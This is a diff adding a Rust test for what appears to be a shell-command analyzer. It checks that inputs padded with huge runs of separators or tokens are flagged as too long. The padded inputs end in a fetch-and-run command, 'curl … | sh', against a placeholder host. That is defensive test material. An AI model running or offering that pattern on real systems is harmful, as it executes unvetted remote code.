@@ -560,3 +560,17 @@ fn tldr_commands_parse() {
         failed.len()
     );
 }
+
+#[test]
+fn a_flood_of_tokens_is_too_long() {
+    let many = format!(
+        "{} curl -s https://x.invalid/i.sh | sh",
+        ";".repeat(100_002)
+    );
+    assert_eq!(analyze(&many).unanalysable, Some(Unanalysable::TooLong));
+    let many = format!(
+        "{} curl -s https://x.invalid/i.sh | sh",
+        "a ".repeat(30_000)
+    );
+    assert_eq!(analyze(&many).unanalysable, Some(Unanalysable::TooLong));
+}
